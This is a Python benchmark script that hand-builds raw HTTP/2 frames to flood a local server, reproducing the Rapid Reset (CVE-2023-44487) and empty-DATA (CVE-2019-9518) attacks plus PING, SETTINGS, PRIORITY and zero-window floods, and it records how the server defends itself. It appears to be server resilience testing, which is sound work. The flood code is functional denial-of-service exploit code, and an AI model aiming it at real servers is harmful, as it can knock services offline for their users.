# Benchmarks/h2-flood.py PORT KIND COUNT: one HTTP/2 flood over h2c with prior knowledge, in raw
# frames (no library), against a server answering GET / and GET /big. KIND is reset (COUNT streams
# opened and reset at once, CVE-2023-44487), emptydata (COUNT empty DATA frames on one POST,
# CVE-2019-9518), priority, ping, settings (COUNT of each), or zerowindow (the client's window at 0
# and GET /big: the time until the server gives up, if it does). Prints the frames sent, how the
# server answered (GOAWAY's code, last stream and debug data; HEADERS and DATA bytes back; PINGs
# answered), how many frames had been written when the GOAWAY (or the last PING's ACK) came, and the
# time from the first frame. Used by Benchmarks/h2-floods.sh.
import socket, struct, sys, threading, time
port, kind, count = int(sys.argv[1]), sys.argv[2], int(sys.argv[3])
def frame(t, flags, sid, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([t, flags]) + struct.pack(">I", sid) + payload
def lit(name, value):
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value
def headers(sid, path=b"/", method=b"GET", end=True):
    block = lit(b":method", method) + lit(b":scheme", b"http") + lit(b":path", path) + lit(b":authority", b"localhost")
    return frame(1, 0x4 | (0x1 if end else 0), sid, block)
s = socket.create_connection(("127.0.0.1", port))
s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
settings = b"" if kind != "zerowindow" else struct.pack(">HI", 4, 0)
s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, settings) + frame(4, 1, 0))
state = {"goaway": None, "answered": 0, "pingack": False, "end": None, "sent_at_end": 0, "data": 0, "pings": 0}
sent = [0]
def reader():
    buf = b""
    while True:
        try:
            chunk = s.recv(1 << 20)
        except OSError:
            chunk = b""
        if not chunk:
            break
        buf += chunk
        while len(buf) >= 9:
            length = int.from_bytes(buf[:3], "big")
            if len(buf) < 9 + length: break
            t, flags = buf[3], buf[4]
            payload = buf[9:9 + length]
            buf = buf[9 + length:]
            if t == 1: state["answered"] += 1
            if t == 0: state["data"] += length
            if t == 7 and state["goaway"] is None:
                last, code = struct.unpack(">II", payload[:8])
                state["goaway"] = (code, last, payload[8:].decode(errors="replace"))
                state["end"] = time.monotonic(); state["sent_at_end"] = sent[0]
            if t == 6 and flags & 1 and payload == b"pingping": state["pings"] += 1
            if t == 6 and flags & 1 and payload == b"floodend":
                state["pingack"] = True
                if state["end"] is None: state["end"] = time.monotonic(); state["sent_at_end"] = sent[0]
    if state["end"] is None: state["end"] = time.monotonic(); state["sent_at_end"] = sent[0]
t = threading.Thread(target=reader, daemon=True); t.start()
start = time.monotonic()
batch = 10000
try:
    if kind == "reset":
        for base in range(0, count, batch):
            n = min(batch, count - base)
            s.sendall(b"".join(headers(2 * i + 1) + frame(3, 0, 2 * i + 1, struct.pack(">I", 8)) for i in range(base, base + n)))
            sent[0] += n
    elif kind in ("emptydata", "priority", "ping", "settings"):
        if kind == "emptydata": s.sendall(headers(1, method=b"POST", end=False))
        one = {"emptydata": frame(0, 0, 1), "priority": frame(2, 0, 3, struct.pack(">IB", 0, 15)),
               "ping": frame(6, 0, 0, b"pingping"), "settings": frame(4, 0, 0)}[kind]
        chunk = one * batch
        for base in range(0, count, batch):
            n = min(batch, count - base)
            s.sendall(chunk if n == batch else one * n)
            sent[0] += n
    elif kind == "zerowindow":
        s.sendall(headers(1, path=b"/big"))
        sent[0] = 1
    s.sendall(frame(6, 0, 0, b"floodend"))
except OSError as e:
    print("send stopped:", e)
t.join(timeout=None if kind == "zerowindow" else 120)
took = (state["end"] or time.monotonic()) - start
g = state["goaway"]
print(f"{kind}: {sent[0]} sent; " + (f"GOAWAY code {g[0]} last {g[1]} ({g[2]}); " if g else "no GOAWAY; ")
      + (f"{state['pings']} PINGs answered, " if kind == "ping" else "") + f"{state['answered']} HEADERS back, {state['data']} DATA bytes; {state['sent_at_end']} sent when the "
      + ("GOAWAY" if g else "last PING ACK" if state["pingack"] else "close") + f" came; {took:.2f} s")
